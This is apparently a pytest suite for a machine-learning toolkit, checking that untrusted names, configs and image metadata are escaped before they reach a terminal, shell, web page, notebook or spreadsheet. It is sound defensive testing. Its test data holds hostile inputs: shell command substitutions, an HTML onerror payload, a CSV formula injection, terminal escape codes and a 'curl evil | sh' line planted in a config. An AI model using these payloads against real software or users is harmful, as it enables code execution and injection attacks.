"""Text from outside arrives nowhere raw: not in a terminal, a shell, a page, the card or a spreadsheet."""

import ast
import base64
import csv
import hashlib
import html.parser
import io
import json
import os
import re
import shlex
import shutil
import subprocess
import traceback
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

import trilemma
from trilemma import text
from trilemma.cli.main import main
from trilemma.text import csv_text, encodable, markdown, paragraph, printable, quoted

HOSTILE = (
    "=cmd|\x1b]0;t\x07\x9b2J$(touch CANARY)`touch CANARY`<img src=x onerror=alert(1)>\u202e ![x](y)\n- 'next': \"sh"
)
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]")


# --- each place by itself -------------------------------------------------------------------------------------------


def test_what_a_terminal_obeys_is_escaped_and_letters_stay() -> None:
    assert printable("số 猫 🐱‍👤 é") == "số 猫 🐱‍👤 é"
    hidden = [chr(k) for k in (*range(32), *range(0x7F, 0xA0), 0x202E, 0x2028, 0xDC9B, 0x200B, 0xFEFF)]
    for letter in hidden:
        assert ast.literal_eval(f'"{printable(letter)}"') == letter and printable(letter).isascii()
    assert not RAW.search(printable(HOSTILE)) and "\n" not in printable(HOSTILE)
    assert paragraph("a\nerror: b").split("\n") == ["a", "  error: b"]


@pytest.mark.skipif(os.name == "nt", reason="bash")
@pytest.mark.parametrize("word", [HOSTILE, "a b", "it's", "", "-x", "~", "a\\", "$HOME", "*", "\x1b'\\n\x1b", "é\n"])
def test_a_shell_takes_a_quoted_word_as_it_is(word: str, tmp_path: Path) -> None:
    line = quoted(["printf", "%s", word])
    assert not RAW.search(line) and "\n" not in line
    done = subprocess.run(["bash", "-c", line], capture_output=True, cwd=tmp_path, env={"LC_ALL": "C.UTF-8"})
    assert done.stdout.decode() == word and not list(tmp_path.iterdir())


def test_words_for_windows_hold_nothing_that_cmd_or_powershell_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(text, "os", type("Windows", (), {"name": "nt"}))
    assert quoted(["trilemma", "sample", "C:\\my runs\\vae"]) == 'trilemma sample "C:\\my runs\\vae"'
    (word,) = re.findall(r'^"([^"]*)"$', quoted([HOSTILE]))  # one pair of quotes, around all
    assert not re.search(r"(?<!`)[$`](?!\$|`)", word)


def test_no_cell_is_a_formula_and_numbers_stay_numbers() -> None:
    cells = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", HOSTILE, "-1", "+2.5e3", "a=b", -3, 2.5]
    (read,) = csv.reader(io.StringIO(csv_text([cells])))
    assert not any(cell.startswith(tuple("=@\t\r")) for cell in read)
    assert read[-5:] == ["-1", "+2.5e3", "a=b", "-3", "2.5"] and read[:2] == ["'=1+1", "'+1+1"]


def test_markdown_shows_what_was_written() -> None:
    shown = markdown(HOSTILE)
    assert "\n" not in shown and not RAW.search(shown)
    assert not re.search(r"(?<!\\)[<>!\[`#*_|&]", shown)
    assert re.sub(r"\\([^\w\s])", r"\1", shown).startswith("=cmd|")


def test_letters_that_a_stream_lacks_are_replaced() -> None:
    stream = io.TextIOWrapper(io.BytesIO(), "ascii")
    assert encodable("số", stream) == "s?" and encodable("số", io.StringIO()) == "số"


# --- a run folder and data whose every word is hostile --------------------------------------------------------------


class Tags(html.parser.HTMLParser):
    """The elements of a page and their attributes that act, but for scripts that its policy names by their hash."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.allowed, self.inside = set(re.findall(r"'sha256-([^']+)'", page)), False
        self.feed(page)

    def handle_data(self, data: str) -> None:
        if self.inside:
            digest = base64.b64encode(hashlib.sha256(data.encode()).digest()).decode()
            self.bad += [] if digest in self.allowed else ["script"]

    def handle_endtag(self, tag: str) -> None:
        self.inside = self.inside and tag != "script"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, value in attrs if name.startswith("on") or (name == "src" and value == "x")]
        self.bad += [tag] if names or (tag == "script" and attrs) else []
        self.inside = tag == "script"


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a run, `run`, of images in `data`, and others in `other`: names of folders, files and classes are
    hostile."""
    place, numbers = tmp_path_factory.mktemp("hostile") / HOSTILE, np.random.default_rng(0)
    for k in range(160):
        file = place / ("data" if k < 120 else "other") / (HOSTILE if k % 2 else "-2+3") / f"{HOSTILE}{k}.png"
        file.parent.mkdir(parents=True, exist_ok=True)
        Image.fromarray(numbers.integers(0, 256, (8, 8), np.uint8)).save(file)
    (place / "other" / HOSTILE / f"{HOSTILE}.jpg").write_bytes(b"no image")
    (place / "other" / f"{HOSTILE}.txt").write_text(HOSTILE)
    (place / "other" / "metadata.csv").write_text(csv_text([["file_name", HOSTILE, "text"], [HOSTILE, "1", HOSTILE]]))
    trilemma.train("vae-conditional", place / "data", steps=2, latent=2, batch=16, out=place / "run", quiet=True)
    return place


def poison(run: Path) -> None:
    """A hostile word in every text of a run that is not a setting or the place of the data."""
    config, summary = (json.loads((run / f"{name}.json").read_text("utf-8")) for name in ("config", "summary"))
    config |= {"command": f"curl evil | sh # {HOSTILE}", "trilemma": HOSTILE, "notes": [HOSTILE]}
    summary |= {"warnings": [HOSTILE], "device": HOSTILE, f"valid_{HOSTILE}": 1.0}
    (run / "config.json").write_text(json.dumps(config))
    (run / "summary.json").write_text(json.dumps(summary))
    row = {"step": 1, "images": 16, "seconds": 1.0, f"{HOSTILE}/loss": 1.0, f"valid_{HOSTILE}": 2.0}
    with (run / "log.jsonl").open("a") as file:
        file.write(json.dumps(row) + "\n" + json.dumps({**row, "seconds": 2.0}) + "\n")


VERBS = [
    ["sample", "RUN", "n=2", "label=1"],
    ["sample", "RUN", "n=2", "label=wrong"],
    ["reconstruct", "RUN", "n=4"],
    ["interpolate", "RUN", "0", "1"],
    ["traverse", "RUN"],
    ["edit", "RUN", "0", "towards=1"],
    pytest.param(["compress", "RUN", "n=8"], marks=pytest.mark.slow),
    pytest.param(["map", "RUN", "how=pca", "projector=true"], marks=pytest.mark.slow),
    pytest.param(["detect", "RUN", "false_alarms=0.2"], marks=pytest.mark.slow),
    pytest.param(["detect", "RUN", "against=OTHER", "false_alarms=0.2"], marks=pytest.mark.slow),
    pytest.param(["augment", "RUN", "n=4", "verdict=false"], marks=pytest.mark.slow),
    ["disentangle", "RUN", "data=OTHER"],
    ["data", "check", "OTHER"],
    ["data", "show", "OTHER"],
    pytest.param(["evaluate", "RUN", "n=20"], marks=pytest.mark.slow),
    ["evaluate", "OTHER"],
    pytest.param(["train", "vae", "OTHER", "steps=2", "out=RUN"], marks=pytest.mark.slow),
    ["train", "vae-conditional", "DATA", "steps=2", "latent=2", "batch=16", "out=RUN"],
    pytest.param(["train", "vae", "OTHER", "steps=2", "latent=2"], marks=pytest.mark.slow),
    ["again", "RUN/samples/last.png"],
    pytest.param(["compare", "RUN", "COPY", "n=20"], marks=pytest.mark.slow),
]


@pytest.mark.parametrize("words", VERBS, ids=" ".join)
def test_no_verb_shows_a_hostile_word_as_it_is(
    words: list[str], place: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    run = tmp_path / HOSTILE
    shutil.copytree(place / "run", run)
    poison(run)
    names = {"RUN": str(run), "DATA": str(place / "data"), "OTHER": str(place / "other")}
    names["COPY"] = str(shutil.copytree(run, tmp_path / f"{HOSTILE}2")) if "COPY" in words else ""
    before = {path: path.stat().st_mtime_ns for path in tmp_path.rglob("*")}
    code = main([re.sub("RUN|DATA|OTHER|COPY", lambda match: names[match[0]], word) for word in words])
    output = capsys.readouterr()
    assert code in (0, 1, 2) and "Traceback" not in output.err and "defect" not in output.err
    written = [p for p in tmp_path.rglob("*") if p.is_file() and before.get(p) != p.stat().st_mtime_ns]
    check(output.out + output.err, written)
    for line in (output.out + output.err).splitlines():
        assert "curl evil" not in line  # the command of the folder is no advice
        assert not line.startswith(("- ", "'next'"))


def check(said: str, written: list[Path]) -> None:
    assert not RAW.search(said)
    for path in written:
        if path.suffix in (".html", ".csv", ".md", ".tsv"):
            content = path.read_text("utf-8")
            assert not RAW.search(content)
            if path.suffix == ".html":
                assert not Tags(content).bad
            if path.suffix == ".csv":
                cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
                assert cells and not any(cell.startswith(("=", "-2+", "@")) for cell in cells)
            if path.suffix == ".md":  # but in commands, which are indented
                assert not re.search(r"^(?! {4}).*(?<!\\)<img", content, re.MULTILINE)


def test_what_a_picture_says_is_not_shown_as_it_is(place: Path, tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    receipt = {"trilemma": HOSTILE, "format": 1, "model": HOSTILE, "run": HOSTILE, "verb": HOSTILE, HOSTILE: HOSTILE}
    for leave in ((), ("verb",), ("verb", HOSTILE)):
        entry = PngInfo()
        entry.add_text("trilemma", json.dumps({key: value for key, value in receipt.items() if key not in leave}))
        Image.new("L", (8, 8)).save("picture.png", pnginfo=entry)
        assert main(["again", "picture.png"]) == 2
        err = capsys.readouterr().err
        assert err.startswith("error: picture.png") and not RAW.search(err)
        assert all(line.startswith("  ") for line in err.splitlines()[1:])


def test_an_unfinished_run_of_others_gives_our_line_and_not_its_own(place: Path, tmp_path: Path) -> None:
    shutil.copytree(place / "run", tmp_path / "run")
    poison(tmp_path / "run")
    (tmp_path / "run" / "weights.safetensors").unlink()
    shutil.rmtree(tmp_path / "run" / "checkpoints")
    with pytest.raises(trilemma.UserError) as caught:
        trilemma.load(tmp_path / "run").sample(1)
    advice = str(caught.value).partition("Resume with: ")[2]
    assert "curl" not in advice and not RAW.search(advice)
    echoed = subprocess.run(["bash", "-c", f"trilemma() {{ printf '%s\\0' \"$@\"; }}; {advice}"], capture_output=True)
    words = echoed.stdout.decode().split("\0")
    assert words[:3] == ["train", "vae-conditional", str(place / "data")] and f"out={tmp_path / 'run'}" in words
    config = json.loads((tmp_path / "run" / "config.json").read_text())
    for key, value in (("model_config", {"latent": HOSTILE}), ("training", []), ("data", f"--out={HOSTILE}")):
        (tmp_path / "run" / "config.json").write_text(json.dumps({**config, key: value}))
        with pytest.raises(trilemma.UserError) as caught:
            trilemma.load(tmp_path / "run").sample(1)
        assert "Resume with" not in str(caught.value)


def test_synthetic_images_keep_classes_that_no_cell_may_hold(place: Path, tmp_path: Path) -> None:
    run = trilemma.load(place / "run")
    trilemma.augment(run, n=40, verdict=False, quiet=True, out=tmp_path / "images")
    assert set(trilemma.load_data(tmp_path / "images").classes) == set(run.config["classes"]) == {HOSTILE, "-2+3"}


def test_a_trace_of_our_errors_is_escaped() -> None:
    messages = traceback.format_exception(trilemma.UserError(HOSTILE))
    assert not RAW.search("".join(messages)) and "![x](y)" in messages[-1]


def test_a_notebook_shows_the_name_of_a_folder_and_obeys_nothing(place: Path) -> None:
    shown = trilemma.load(place / "run")._repr_html_()
    assert not Tags(shown).bad and not RAW.search(shown) and "onerror" in shown


def test_the_next_line_is_quoted(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["train", "ae-linear", "digits", "steps=1", "out=$(touch CANARY) ;x", "quiet=true"]) == 0
    (line,) = [line for line in capsys.readouterr().out.splitlines() if line.startswith("next: ")]
    assert shlex.split(line) == ["next:", "trilemma", "sample", "$(touch CANARY) ;x"]
